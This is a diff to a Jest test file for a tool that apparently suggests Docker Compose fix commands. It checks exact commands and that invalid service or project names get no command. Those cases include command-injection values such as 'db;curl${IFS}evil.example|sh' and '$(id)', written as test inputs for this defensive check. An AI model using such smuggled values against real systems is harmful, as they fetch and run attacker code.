@@ -59,6 +59,27 @@ describe('containerFindings', () => {
     const [f] = containerFindings([service({ name: 'worker' })]);
     expect(f).toMatchObject({ id: 'SERVICE_NOT_CREATED', severity: 'warning' });
     expect(f?.fix.command).toContain('up -d worker');
+    expect(f?.fix.command).toBe('docker compose -p shop up -d worker');
+    expect(f?.fix.action).toEqual({ kind: 'create-service', params: { project: 'shop', service: 'worker' } });
+  });
+
+  it('offers no command for a service or project name compose would refuse, and says why', () => {
+    for (const over of [{ name: 'db;curl${IFS}evil.example|sh' }, { name: 'db', project: '$(id)' }, { name: '-d' }]) {
+      const [f] = containerFindings([service(over)]);
+      expect(f).toMatchObject({ id: 'SERVICE_NOT_CREATED' });
+      expect(f?.fix.description).toContain('is not valid');
+      expect(f?.fix.command).toBeUndefined();
+      expect(f?.fix.action).toBeUndefined();
+    }
+  });
+
+  it('reads the logs first of a restarting container (look) and restarts it once fixed (action)', () => {
+    const api = service({ name: 'api', container: container({ name: 'shop-api-1', state: 'restarting', restartCount: 2, exitCode: 1 }) });
+    const [f] = containerFindings([api]);
+    expect(f?.fix.look).toEqual({ kind: 'show-logs', params: { container: 'shop-api-1', tail: 50 } });
+    expect(f?.fix.action).toEqual({ kind: 'restart-container', params: { container: 'shop-api-1' } });
+    expect(f?.fix.command).toBe('docker logs --tail 50 shop-api-1');
+    expect(f?.fix.description).toContain('`docker logs --tail 50 shop-api-1`');
   });
 
   it('says nothing about healthy running containers', () => {
